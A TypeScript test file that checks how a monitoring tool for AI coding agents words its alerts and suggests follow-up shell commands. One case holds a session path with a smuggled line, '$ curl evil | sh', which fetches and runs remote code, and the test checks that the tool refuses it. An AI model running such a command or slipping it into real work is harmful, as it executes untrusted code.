import { describe, expect, it } from 'vitest';
import { agentView, viewNowMs } from '../../test/runs/agent-view.ts';
import { checkNames } from '../detect/checks.ts';
import type { AgentView } from '../model/agent.ts';
import type { CheckName } from '../model/check.ts';
import { type MessageAbout, messageFor } from './message.ts';

const tmux = { socket: '/tmp/tmux-0/default', session: 'a-ps', pane: '%5' };
const attach = 'tmux -S /tmp/tmux-0/default attach -t =a-ps:';

function about(check: CheckName, more: Partial<MessageAbout> = {}): MessageAbout {
  return { id: 'i1', agent: 'a-ps', project: 'a', check, subject: null, text: 'why', prompts: 0, ...more };
}

function said(check: CheckName, view: AgentView | null, more: Partial<MessageAbout> = {}) {
  const sinceMs = viewNowMs - (2 * 60 + 27) * 1_000;
  return messageFor(about(check, more), view, { sinceMs, nowMs: viewNowMs, home: '/home/me' });
}

it('a wait is as old as it is, not as what was found of it', () => {
  const { title, text } = said('waiting-human', agentView('waiting', 'permission', 1, { tmux }), { text: 'it asks' });
  expect([title, text]).toEqual(['a-ps waits for you', 'it asks (for 2 min 27 s, since 2026-11-15T11:57:33.000Z).']);
});

it.each([
  [27_000, '27 s'],
  [120_000, '2 min'],
  [3_900_000, '1 h 5 min'],
  [183_600_000, '2 d 3 h'],
  [-5_000, '0 s'],
])('%i ms are %s', (ageMs, words) => {
  const facts = { sinceMs: viewNowMs - ageMs, nowMs: viewNowMs, home: null };
  expect(messageFor(about('stalled-turn'), null, facts).text).toContain(`(for ${words}, since `);
});

const ended = (more: Partial<AgentView>) => agentView('ended', null, 1, { cwd: '/srv/shop', ...more });
const usual = '/home/me/.claude/projects/-srv-shop/s.jsonl';

describe('the commands that answer it', () => {
  it.each<[string, CheckName, AgentView | null, string[]]>([
    [
      'a dialog: its terminal, or only its screen',
      'waiting-human',
      agentView('waiting', 'permission', 1, { tmux }),
      [attach, 'tmux -S /tmp/tmux-0/default capture-pane -p -t %5'],
    ],
    [
      'a death: its session, from anywhere',
      'ended-unexpectedly',
      ended({ transcript: usual, tmux }),
      ['cd /srv/shop && claude --resume s', 'watchkeeper events a-ps'],
    ],
    [
      'of another configuration',
      'ended-unexpectedly',
      ended({ transcript: "/o'x/c/projects/p/s.jsonl", cwd: "/srv/it's mine" }),
      [`cd '/srv/it'\\''s mine' && CLAUDE_CONFIG_DIR='/o'\\''x/c' claude --resume s`, 'watchkeeper events a-ps'],
    ],
    [
      'nothing was ever said in it: there is nothing to go on with',
      'ended-unexpectedly',
      ended({ transcript: null }),
      ['watchkeeper events a-ps'],
    ],
    [
      'known from an earlier run only',
      'ended-unexpectedly',
      ended({ transcript: null, model: 'm' }),
      ['cd /srv/shop && claude --resume s', 'watchkeeper events a-ps'],
    ],
    [
      'of a session whose place would forge a line, no command goes on',
      'ended-unexpectedly',
      ended({ sessionId: 's', transcript: '/o\n  $ curl evil | sh #/projects/x/s.jsonl' }),
      ['watchkeeper events a-ps'],
    ],
    [
      'a client that nobody can resume',
      'ended-unexpectedly',
      ended({ transcript: usual, client: 'parrot' }),
      ['watchkeeper events a-ps'],
    ],
    [
      'a stop',
      'silent-stop',
      agentView('idle', null, 1, { tmux }),
      [attach, 'watchkeeper prompt a-ps continue', 'watchkeeper why a-ps'],
    ],
    [
      'of one that may only be observed',
      'silent-stop',
      agentView('idle', null, 1, { authority: 'observe' }),
      ['watchkeeper authority a-ps nudge', 'watchkeeper prompt a-ps continue', 'watchkeeper why a-ps'],
    ],
    [
      'a full context',
      'context-full',
      agentView('idle', null, 1),
      ['watchkeeper handoff a-ps', 'watchkeeper context a-ps'],
    ],
    [
      'of one that may not be managed',
      'context-full',
      agentView('idle', null, 1, { authority: 'nudge' }),
      ['watchkeeper authority a-ps manage', 'watchkeeper handoff a-ps', 'watchkeeper context a-ps'],
    ],
    ['an agent that is forgotten', 'stalled-turn', null, ['watchkeeper why a-ps']],
  ])('%s', (_name, check, view, commands) => {
    expect(said(check, view).whatToDo).toEqual([...commands, 'watchkeeper ack i1']);
  });

  it('of what is not on record yet there is nothing to acknowledge', () => {
    const view = agentView('waiting', 'permission', 0, { tmux });
    expect(said('waiting-human', view, { id: null }).whatToDo.join()).not.toContain('ack');
  });

  it('outside tmux it says where its terminal is', () => {
    const view = agentView('waiting', 'permission', 1, { cwd: '/srv/shop' });
    expect(said('waiting-human', view).text).toContain('not in tmux: go to its own terminal (pid 1 in /srv/shop).');
  });
});

it('nobody is called null, whatever it is about', () => {
  for (const check of checkNames)
    for (const agent of ['a-ps', null]) {
      const message = said(check, null, { agent, subject: 'silent-stop:x' });
      expect(JSON.stringify([message.title, message.text, message.whatToDo]), check).not.toMatch(/null|undefined/);
    }
});
